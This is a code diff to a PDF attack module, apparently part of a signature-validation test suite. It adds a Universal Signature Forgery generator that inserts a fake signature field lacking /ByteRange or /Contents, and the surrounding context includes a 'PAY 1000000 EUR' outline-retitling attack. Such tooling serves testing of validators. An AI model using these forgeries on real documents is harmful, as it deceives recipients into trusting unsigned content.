@@ -29,6 +29,9 @@ public enum PDFAttacks {
         case noCrossReference
         /// A complete new cross-reference table without `/Prev` (the signed revision cut off).
         case noPrevious
+        /// Universal Signature Forgery: a new signature field whose value lacks `/ByteRange`
+        /// (`no-byterange`), has `[0 0 0 0]` (`zero-byterange`) or lacks `/Contents` (`no-contents`).
+        case forgedSignature(String)
         /// Before signing: the first page's `/Contents` becomes an indirect array.
         case prepareContentsArray
         /// Before signing: an outline of `count` items whose last `/Next` loops back to the first.
@@ -55,6 +58,7 @@ public enum PDFAttacks {
             case .noEndOfFile: return "no-eof"
             case .noCrossReference: return "no-xref"
             case .noPrevious: return "no-prev"
+            case .forgedSignature(let variant): return "usf:\(variant)"
             case .prepareContentsArray: return "prepare-contents-array"
             case .prepareOutlines(let count): return "prepare-outlines:\(count)"
             case .retitleOutline(let index): return "retitle-outline:\(index)"
@@ -196,6 +200,42 @@ public enum PDFAttacks {
             ref.get_object()[pdf_name('/Title')] = generic.TextStringObject('PAY 1000000 EUR')
             writer.mark_update(ref)
 
+        def forged_signature(writer, variant):
+            # USF: a new signature field whose value has no /ByteRange, a [0 0 0 0] one, or no /Contents.
+            page_ref = first_page(writer)[0]
+            value = DictionaryObject({pdf_name('/Type'): pdf_name('/Sig'), pdf_name('/Filter'): pdf_name('/Adobe.PPKLite'),
+                                      pdf_name('/SubFilter'): pdf_name('/adbe.pkcs7.detached')})
+            if variant != 'no-contents':
+                value[pdf_name('/Contents')] = generic.ByteStringObject(b'\x00' * 64)
+            if variant == 'zero-byterange':
+                value[pdf_name('/ByteRange')] = ArrayObject([NumberObject(0)] * 4)
+            elif variant == 'no-contents':
+                value[pdf_name('/ByteRange')] = ArrayObject([NumberObject(0), NumberObject(10), NumberObject(20),
+                                                             NumberObject(30)])
+            field = writer.add_object(DictionaryObject({
+                pdf_name('/FT'): pdf_name('/Sig'), pdf_name('/T'): generic.TextStringObject('Forged'),
+                pdf_name('/V'): writer.add_object(value), pdf_name('/Type'): pdf_name('/Annot'),
+                pdf_name('/Subtype'): pdf_name('/Widget'), pdf_name('/P'): page_ref,
+                pdf_name('/Rect'): ArrayObject([NumberObject(0)] * 4)}))
+            form_ref = writer.root.raw_get('/AcroForm')
+            form = form_ref.get_object()
+            fields_ref = form.raw_get('/Fields')
+            form['/Fields'].append(field)
+            if isinstance(fields_ref, generic.IndirectObject):
+                writer.mark_update(fields_ref)
+            elif isinstance(form_ref, generic.IndirectObject):
+                writer.mark_update(form_ref)
+            else:
+                writer.update_root()
+            page = page_ref.get_object()
+            annots_ref = page.raw_get('/Annots') if '/Annots' in page else None
+            if isinstance(annots_ref, generic.IndirectObject):
+                annots_ref.get_object().append(field)
+                writer.mark_update(annots_ref)
+            else:
+                page[pdf_name('/Annots')] = ArrayObject(list(page.get('/Annots') or []) + [field])
+                writer.update_container(page)
+
         def prepare_contents_array(writer):
             # Before signing: the first page's /Contents becomes an indirect array [stream].
             page_ref = first_page(writer)[0]
@@ -324,6 +364,8 @@ public enum PDFAttacks {
                 elif mode.startswith('disguise:'):
                     _, key, value = mode.split(':')
                     disguise(writer, key, value)
+                elif mode.startswith('usf:'):
+                    forged_signature(writer, mode[4:])
                 elif mode.startswith('prepare-outlines:'):
                     prepare_outlines(writer, int(mode.split(':')[1]))
                 elif mode.startswith('retitle-outline:'):
